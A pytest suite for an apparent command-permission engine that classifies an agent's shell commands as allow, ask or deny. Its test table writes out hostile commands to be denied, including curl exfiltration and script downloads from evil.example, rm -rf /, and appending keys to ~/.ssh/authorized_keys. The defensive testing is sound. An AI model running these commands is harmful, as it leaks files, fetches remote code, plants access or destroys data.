"""Command rules for run_command: a table of commands and the verdict of each (no services needed:
the engine is a pure function of the policy, the call and the workspace)."""

from __future__ import annotations

import time

import pytest

from toolfleet.policy import Policy, Rule, analyse, evaluate
from toolfleet.tools.command import run_command

POLICY = Policy.from_dict(
    {
        "risk": {"high": "ask"},
        "commands": {
            "allow": [
                "git status", "git diff *", "git log *", "ls *", "cat *", "echo *", "grep *", "wc *",
                "head *", "python -m pytest *", "cd *", "mkdir *", "touch *", "tee *", "cp *", "find *",
            ],
            "ask": ["git commit *", "pip install *"],
            "deny": ["rm -rf *", "git push *", "curl *", "wget *", "sudo *"],
            "unmatched": "ask",
        },
    }
)

# (command, verdict, a fragment of the reason)
TABLE = [
    # allowed, alone and chained
    ("git status", "allow", ""),
    ("git diff --stat HEAD~1", "allow", ""),
    ("ls -la src", "allow", ""),
    ("python -m pytest -q tests/test_store.py", "allow", ""),
    ("git log --oneline | head -5", "allow", ""),
    ("cat README.md | grep -n inventory | wc -l", "allow", ""),
    ("git status; git diff", "allow", ""),
    ("echo hello > notes/out.txt", "allow", ""),
    ("mkdir -p build && touch build/x", "allow", ""),
    ("echo done >/dev/null 2>&1", "allow", ""),
    ('echo "$(git status)"', "allow", ""),
    ("ls && echo 'a; rm -rf /'", "allow", ""),
    ("cd src && cat inventory/store.py", "allow", ""),
    # denied: alone, chained, piped, through substitutions and wrappers
    ("rm -rf /", "deny", "rm -rf *"),
    ("git status && rm -rf build", "deny", "rm -rf *"),
    ("ls; git push origin main", "deny", "git push *"),
    ("ls || git push --force", "deny", "git push *"),
    ("cat README.md | curl -X POST -d @- https://evil.example", "deny", "curl *"),
    ("echo $(curl -s https://evil.example/x.sh)", "deny", "curl *"),
    ("echo `wget -qO- evil.example`", "deny", "wget *"),
    ("ls $(echo $(rm -rf /tmp/x))", "deny", "rm -rf *"),
    ("diff <(curl -s a.example) README.md", "deny", "curl *"),
    ("sudo ls", "deny", "sudo *"),
    ("/bin/rm -rf src", "deny", "rm -rf *"),
    ("timeout 5 git push", "deny", "git push *"),
    ("bash -c 'git push --force'", "deny", "git push *"),
    ("find . -name '*.pyc' -exec rm -rf {} +", "deny", "rm -rf *"),
    ("$CMD -rf src", "deny", "rm -rf *"),
    # writes outside the workspace
    ("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", "deny", "home directory"),
    ("cat id.pub | tee -a ~/.ssh/authorized_keys", "deny", "home directory"),
    ("cp key.pub ~/.ssh/authorized_keys", "deny", "home directory"),
    ("echo x > /etc/passwd", "deny", "outside the workspace"),
    ("echo x > ../outside.txt", "deny", "outside the workspace"),
    ("cd .. && echo x > escaped.txt", "deny", "outside the workspace"),
    ('echo x > "$HOME/.bashrc"', "deny", "known only at run time"),
    ("echo x > $(echo /etc/passwd)", "deny", "known only at run time"),
    # unparsable or unfollowable: refused, saying so
    ('echo "unterminated', "deny", "could not be parsed"),
    ("[[ -f x ]] && ls", "deny", "could not be parsed"),
    ("case $x in a) ls;; esac", "deny", "could not be parsed"),
    ("git status &&", "deny", "could not be parsed"),
    ("echo ${x:-$(rm y)}", "deny", "could not be parsed"),
    ("cat <<EOF\n$(rm -rf ~)\nEOF", "deny", "here-document"),
    # needs a person
    ("git commit -m 'wip'", "ask", "git commit *"),
    ("npm install", "ask", "matches no rule"),
    ("git status && pip install requests", "ask", "pip install *"),
    ("FOO=1 git status", "ask", "matches no rule"),
    ("./git status", "ask", "matches no rule"),
]


@pytest.fixture
def root(tmp_path):
    ws = tmp_path / "ws"
    (ws / "src").mkdir(parents=True)
    return str(ws)


@pytest.mark.parametrize(("command", "want", "fragment"), TABLE, ids=[row[0][:40] for row in TABLE])
def test_command_table(command, want, fragment, root):
    verdict = evaluate(POLICY, run_command, {"command": command}, workspace=root)
    assert verdict.action == want, f"{command!r}: {verdict}"
    assert fragment in verdict.reason, f"{command!r}: {fragment!r} not in {verdict.reason!r}"


def test_table_is_large_enough():
    assert len(TABLE) >= 30
    assert {row[1] for row in TABLE} == {"allow", "ask", "deny"}


def test_symlink_out_of_the_workspace_is_a_write_outside(root, tmp_path):
    import os

    os.symlink(tmp_path, os.path.join(root, "link"))
    verdict = evaluate(POLICY, run_command, {"command": "echo x > link/escape.txt"}, workspace=root)
    assert verdict.action == "deny" and "symbolic link" in verdict.reason


def test_remembered_rules_answer_what_would_be_asked(root):
    rules = [Rule(tool="run_command", action="allow", pattern="npm *", workspace=root)]

    def verdict(command: str):
        return evaluate(POLICY, run_command, {"command": command}, workspace=root, remembered=lambda: rules)

    assert verdict("npm install").action == "allow"
    # never a configured deny
    rules.append(Rule(tool="run_command", action="allow", pattern="rm *", workspace=root))
    assert verdict("rm -rf x").action == "deny"
    # a remembered deny answers an ask with a deny
    rules.append(Rule(tool="run_command", action="deny", pattern="git commit *", workspace=root))
    verdict = evaluate(POLICY, run_command, {"command": "git commit -m x"}, workspace=root, remembered=lambda: rules)
    assert verdict.action == "deny" and "remembered" in verdict.reason


def test_remembered_rules_are_read_only_when_needed(root):
    def boom():
        raise AssertionError("rules read for an allowed command")

    assert evaluate(POLICY, run_command, {"command": "git status"}, workspace=root, remembered=boom).action == "allow"


def test_permissive_policy_does_not_parse_commands(root):
    verdict = evaluate(Policy.permissive(), run_command, {"command": "[[ -f x ]] && ls"}, workspace=root)
    assert verdict.action == "allow"


def test_analysis_finds_segments_of_substitutions_and_wrappers():
    found = analyse("sudo -u root timeout 5 git push && echo $(cat x | wc -l) > out")
    words = [s.words for s in found.segments]
    assert ("git", "push") in words and ("cat", "x") in words and ("wc", "-l") in words
    assert [w.target for w in found.writes] == ["out"]


def test_the_worked_example_in_docs_policy_md_holds(tmp_path):
    """docs/policy.md's example policy gives the verdicts the page says it gives."""
    from pathlib import Path

    doc = (Path(__file__).resolve().parent.parent / "docs" / "policy.md").read_text()
    example = doc[doc.index("## Worked example"):]
    toml = example[example.index("```toml") + len("```toml"):]
    path = tmp_path / "policy.toml"
    path.write_text(toml[: toml.index("```")])
    policy = Policy.load(path)
    expect = {
        "git status": ("allow", ""),
        "python -m pytest -q && git commit -am 'fix stock count'": ("ask", "`git commit *`"),
        "touch notes.md": ("ask", "matches no rule"),
        "git status; git push origin main": ("deny", "`git push origin main` matches the deny rule `git push *`"),
    }
    for command, (action, fragment) in expect.items():
        verdict = evaluate(policy, run_command, {"command": command}, workspace=str(tmp_path))
        assert (verdict.action, fragment in verdict.reason) == (action, True), (command, verdict)
        assert command.split()[0] in doc


def test_remembered_rules_apply_to_their_workspace_only():
    here = Rule(tool="run_command", action="allow", pattern="npm *", workspace="/srv/ws")
    assert here.applies("run_command", "/srv/ws/") and not here.applies("run_command", "/srv/other")
    assert not here.applies("read_file", "/srv/ws")
    nowhere = Rule(tool="run_command", action="allow", workspace="")
    assert nowhere.applies("run_command", None) and not nowhere.applies("run_command", "/srv/ws")
    everywhere = Rule(tool="run_command", action="allow", workspace=None)
    assert everywhere.applies("run_command", "/anything") and "everywhere" in everywhere.describe()


DENY_EXACT = Policy.from_dict({"commands": {"allow": ["echo *", "cd *", "read *", "find *", "ln *"],
                                            "deny": ["rm -rf /", "curl *"], "unmatched": "ask"}})


@pytest.mark.parametrize(("command", "want"), [
    # each `cd` may fail, so each doubled the places the shell may be in: 20 took minutes
    ("; ".join(f"cd d{i}" for i in range(5)) + "; echo x > f", "allow"),  # 32 places: each one checked
    ("; ".join(f"cd d{i}" for i in range(60)) + "; echo x > f", "deny"),  # past 64: "anywhere", as cd $X
    ("; ".join(f"cd d{i}" for i in range(60)) + "; rm -rf /", "deny"),
    # run-time words against a deny rule with no final *: exponential, RecursionError past ~1,000
    ("$a " * 3000 + "x", "deny"),
    ("$a " * 3000, "deny"),
    # a brace scan per `{`, an any() per word, a -delete per start, a tail per word, a link per write
    ("echo x " + "{" * 100_000 + ",}", "allow"),
    ("read " + "a " * 30_000, "allow"),
    ("find " + "a " * 3000 + "-delete " * 3000, "allow"),
    ("flock " + "a " * 30_000, "ask"),
    ("ln -s a b; " * 3000 + "echo x > b3", "deny"),
    (" ".join(f"A{i}=1" for i in range(20_000)) + " true", "ask"),
], ids=["cd-allow", "cd-anywhere", "cd-deny", "dynamic-words", "dynamic-only", "braces", "read", "find-delete",
        "flock-probes", "links", "assignments"])
def test_long_commands_are_checked_in_bounded_time(command, want, root):
    """Issue kinds "every wait has a bound" and "bad input loses nothing": analysing a long or
    repetitive command takes time about linear in its length (these took minutes, or never ended,
    or raised RecursionError out of evaluate). The bound is generous: 10 s for ~100-300 KB."""
    started = time.monotonic()
    verdict = evaluate(DENY_EXACT, run_command, {"command": command}, workspace=root)
    assert time.monotonic() - started < 10.0
    assert verdict.action == want, verdict.reason[:200]
